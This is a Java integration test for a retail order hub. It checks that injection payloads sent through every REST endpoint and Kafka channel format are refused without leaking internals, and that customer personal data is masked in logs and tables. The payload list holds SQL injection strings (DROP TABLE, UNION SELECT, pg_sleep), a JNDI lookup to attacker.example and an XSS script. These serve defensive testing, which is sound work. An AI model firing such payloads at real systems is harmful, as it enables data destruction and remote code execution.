package org.retailhub.app.order;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.retailhub.app.RetailHubApplication;
import org.retailhub.domain.payment.WebhookSignature;
import org.retailhub.routes.order.ChannelOrderRoutes;
import org.slf4j.LoggerFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.kafka.core.KafkaTemplate;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.web.client.RestClient;
import org.springframework.web.util.UriComponentsBuilder;

/**
 * Classic injection payloads through every parameter of every endpoint and every channel format: each is refused
 * with a problem detail that shows no internals, and no row changes. Personal data a channel sends stays out of the
 * logs, the hub's tables and the process variables Cockpit shows.
 */
@SpringBootTest(classes = RetailHubApplication.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
        "hub.embedded.data-dir=", "hub.cdc.enabled=false", "hub.islands.simulator-pause=0s", "hub.embedded.postgres-port=0", "hub.payment.psp.simulator-port=0", "hub.crm.simulator-port=0",
        "hub.erp.simulator-port=0"})
@DirtiesContext
@ExtendWith(OutputCaptureExtension.class)
class InjectionIT {

    static final List<String> PAYLOADS = List.of(
            "' OR '1'='1",
            "'; DROP TABLE hub.customer_order;--",
            "1; UPDATE hub.stock SET on_hand = 0 WHERE '1'='1",
            "' UNION SELECT id::text, external_id FROM hub.customer_order--",
            "\" OR \"\"=\"",
            "1' AND pg_sleep(5)--",
            "${jndi:ldap://attacker.example/a}",
            "<script>alert(1)</script>");
    /** What an answer must never show: driver, framework or SQL internals. */
    static final List<String> INTERNALS = List.of("Exception", "org.", "java.", "SQL state", "syntax error", "postgres", "PSQL", "\tat ");
    static final String SECRET = "dev-only-webhook-secret-change-me";

    @LocalServerPort
    int port;
    @Value("${spring.kafka.bootstrap-servers}")
    String bootstrap;
    @Autowired
    KafkaTemplate<String, String> kafka;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    ObjectMapper json;

    RestClient channel;
    RestClient admin;

    @BeforeEach
    void clients() {
        channel = HubApi.client(port, HubApi.CHANNEL_USER, HubApi.CHANNEL_PASSWORD);
        admin = HubApi.client(port, "admin", "admin-dev-only");
    }

    @Test
    void payloadsThroughEveryRestParameterAreRefusedAndChangeNothing() {
        Map<String, Object> before = tables();
        List<String> wrong = new ArrayList<>();
        for (String payload : PAYLOADS) {
            List<ResponseEntity<String>> answers = new ArrayList<>();
            for (String path : List.of("/api/orders/{p}", "/api/orders/{p}/cancellation", "/api/orders/{p}/refunds", "/api/orders/{p}/till-payment",
                    "/api/rfid/epc/{p}")) {
                HttpMethod method = path.endsWith("{p}") ? HttpMethod.GET : HttpMethod.POST;
                answers.add(channel.method(method).uri(expand(path, payload)).contentType(MediaType.APPLICATION_JSON).body("{}")
                        .retrieve().toEntity(String.class));
            }
            for (String field : List.of("channel", "externalId", "storeId", "loyaltyTier", "paymentMethod", "giftCardNumber", "sku", "quantity")) {
                answers.add(channel.post().uri("/api/orders").contentType(MediaType.APPLICATION_JSON).body(orderWith(field, payload))
                        .retrieve().toEntity(String.class));
            }
            answers.add(channel.post().uri("/api/orders/" + UUID.randomUUID() + "/cancellation").contentType(MediaType.APPLICATION_JSON)
                    .body(json(Map.of("reason", payload))).retrieve().toEntity(String.class));
            answers.add(channel.post().uri("/api/orders/" + UUID.randomUUID() + "/refunds").contentType(MediaType.APPLICATION_JSON)
                    .body("{\"amount\":" + json(payload) + ",\"reason\":" + json(payload) + "}").retrieve().toEntity(String.class));
            answers.add(admin.get().uri(UriComponentsBuilder.fromPath("/api/audit").queryParam("actor", "{p}").queryParam("action", "{p}")
                    .encode().buildAndExpand(payload, payload).toUriString()).retrieve().toEntity(String.class));
            answers.add(admin.get().uri(UriComponentsBuilder.fromPath("/api/audit").queryParam("since", "{p}").queryParam("limit", "{p}")
                    .encode().buildAndExpand(payload, payload).toUriString()).retrieve().toEntity(String.class));
            answers.add(channel.post().uri(expand("/api/payments/webhooks/{p}", payload)).contentType(MediaType.APPLICATION_JSON).body("{}")
                    .retrieve().toEntity(String.class));
            answers.add(admin.post().uri(expand("/api/customers/{p}/erasure", payload)).retrieve().toEntity(String.class));
            byte[] webhook = ("{\"id\":" + json(payload) + ",\"data\":{\"reference\":" + json(payload) + ",\"status\":" + json(payload) + "}}")
                    .getBytes(StandardCharsets.UTF_8);
            answers.add(channel.post().uri("/api/payments/webhooks/simpsp").contentType(MediaType.APPLICATION_JSON)
                    .header("PSP-Signature", new WebhookSignature(SECRET, Duration.ofMinutes(5)).sign(webhook, Instant.now()))
                    .body(webhook).retrieve().toEntity(String.class));
            for (ResponseEntity<String> answer : answers) {
                int status = answer.getStatusCode().value();
                String body = answer.getBody() == null ? "" : answer.getBody();
                if (status < 400 || status >= 500 || INTERNALS.stream().anyMatch(body::contains)
                        || !MediaType.APPLICATION_PROBLEM_JSON.isCompatibleWith(answer.getHeaders().getContentType())) {
                    wrong.add(payload + " -> " + status + " " + body);
                }
            }
        }
        assertThat(wrong).as("answers that accepted a payload or showed internals").isEmpty();
        assertThat(tables()).as("no row changed").isEqualTo(before);
    }

    @Test
    void payloadsThroughEveryChannelFormatAreDeadLetteredAndChangeNothing() {
        Map<String, Object> before = tables();
        Set<String> keys = new HashSet<>();
        int n = 0;
        for (String payload : PAYLOADS) {
            String safe = json(payload);
            for (String topic : List.of("orders.web", "orders.app", "orders.marketplace")) {
                for (String message : List.of(
                        "{\"orderRef\":" + safe + ",\"store\":\"WEB-DC\",\"items\":[{\"sku\":\"SKU-0001\",\"qty\":1}]}",
                        "{\"orderRef\":\"INJ-" + n + "\",\"store\":" + safe + ",\"items\":[{\"sku\":\"SKU-0001\",\"qty\":1}]}",
                        "{\"orderRef\":\"INJ-" + (n + 1) + "\",\"store\":\"WEB-DC\",\"items\":[{\"sku\":" + safe + ",\"qty\":1}]}",
                        "{\"orderRef\":\"INJ-" + (n + 2) + "\",\"store\":\"WEB-DC\",\"customer\":{\"loyaltyTier\":" + safe
                                + "},\"items\":[{\"sku\":\"SKU-0001\",\"qty\":1}]}")) {
                    String key = "inj-" + n++;
                    keys.add(key);
                    kafka.send(topic, key, message);
                }
            }
            String field = payload.replace(";", ",");
            for (String record : List.of(
                    "HDR;" + field + ";TILL-03;000123;20261125101500;GOLD\nITM;1;SKU-0001;2\nTRL;1\n",
                    "HDR;STORE-001;" + field + ";000123;20261125101500;GOLD\nITM;1;SKU-0001;2\nTRL;1\n",
                    "HDR;STORE-001;TILL-03;" + field + ";20261125101500;GOLD\nITM;1;SKU-0001;2\nTRL;1\n",
                    "HDR;STORE-001;TILL-03;000124;20261125101500;GOLD\nITM;1;" + field + ";2\nTRL;1\n")) {
                String key = "inj-" + n++;
                keys.add(key);
                kafka.send("orders.pos", key, record);
            }
        }
        assertThat(KafkaProbe.awaitKeys(bootstrap, "orders.deadletter", keys, Duration.ofSeconds(60))).as("every message dead-lettered")
                .hasSize(keys.size());
        assertThat(tables()).as("no row changed").isEqualTo(before);
    }

    @Test
    void personalDataStaysOutOfLogsTablesAndProcessVariables(CapturedOutput output) {
        String email = "jane.doe@example.com";
        String phone = "+49 170 1234567";
        String card = "4111111111111111";
        String ref = "PII-" + UUID.randomUUID().toString().substring(0, 8);
        kafka.send("orders.web", ref, "{\"orderRef\":\"" + ref + "\",\"store\":\"WEB-DC\",\"customer\":{\"loyaltyTier\":\"GOLD\",\"name\":\"Jane Doe\","
                + "\"email\":\"" + email + "\",\"phone\":\"" + phone + "\",\"address\":{\"street\":\"Hauptstrasse 1\",\"city\":\"Berlin\"}},"
                + "\"payment\":{\"method\":\"CARD\",\"cardNumber\":\"" + card + "\"},\"items\":[{\"sku\":\"SKU-0003\",\"qty\":1}]}");
        kafka.send("orders.pos", "pii-pos", "HDR;STORE-001;TILL-03;000900;20261125101500;" + email + "\nITM;1;SKU-0001;2\nTRL;1\n");
        String id = await().atMost(Duration.ofSeconds(30)).until(() -> jdbc.queryForList(
                "select id::text from hub.customer_order where external_id = ?", String.class, ref), ids -> !ids.isEmpty()).get(0);
        KafkaProbe.awaitKeys(bootstrap, "orders.deadletter", Set.of("pii-pos"), Duration.ofSeconds(30));
        // paid: the order went through every step that sets process variables, and no longer moves stock under the other tests
        await().atMost(Duration.ofSeconds(30)).until(() -> jdbc.queryForObject("select status from hub.customer_order where id = ?::uuid",
                String.class, id), "PAID"::equals);
        // what a careless log line would write, through the hub's own logging configuration
        LoggerFactory.getLogger(ChannelOrderRoutes.class).warn("customer name=Jane Doe, email {} phone {} paid with card {}", email, phone,
                "4111 1111 1111 1111");

        for (String secret : List.of(email, phone, card, "4111 1111 1111 1111", "Jane Doe", "Hauptstrasse")) {
            assertThat(output.getAll()).as("log lines").doesNotContain(secret);
            assertThat(jdbc.queryForObject("select count(*) from act_hi_varinst where text_ like ? or text2_ like ?", Integer.class,
                    "%" + secret + "%", "%" + secret + "%")).as("process variables").isZero();
            assertThat(jdbc.queryForObject("select count(*) from hub.customer_order o where o::text like ?", Integer.class, "%" + secret + "%"))
                    .as("order rows").isZero();
        }
        assertThat(output.getAll()).contains("email ***@*** phone +*** paid with card ****1111");
    }

    /** Row counts and stock totals of the hub's tables, and that they all still exist. */
    private Map<String, Object> tables() {
        return jdbc.queryForMap("""
                select (select count(*) from hub.customer_order) orders, (select count(*) from hub.order_line) lines,
                       (select sum(on_hand) from hub.stock) on_hand, (select sum(reserved) from hub.stock) reserved,
                       (select count(*) from hub.payment) payments, (select count(*) from hub.article) articles,
                       (select count(*) from hub.audit_event) audit,
                       (select count(*) from information_schema.tables where table_schema = 'hub') hub_tables""");
    }

    private static String expand(String path, String payload) {
        return UriComponentsBuilder.fromPath(path).encode().buildAndExpand(payload).toUriString();
    }

    private String orderWith(String field, String payload) {
        Map<String, Object> line = new java.util.LinkedHashMap<>(Map.of("sku", "SKU-0001", "quantity", 1));
        Map<String, Object> order = new java.util.LinkedHashMap<>(Map.of("channel", "WEB", "externalId", "INJ-" + UUID.randomUUID(),
                "storeId", "WEB-DC", "lines", List.of(line)));
        if (field.equals("sku") || field.equals("quantity")) {
            line.put(field, payload);
        } else {
            order.put(field, payload);
        }
        if (field.equals("giftCardNumber")) {
            order.put("paymentMethod", "GIFT_CARD");
        }
        return json(order);
    }

    private String json(Object value) {
        try {
            return json.writeValueAsString(value);
        } catch (com.fasterxml.jackson.core.JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }
}
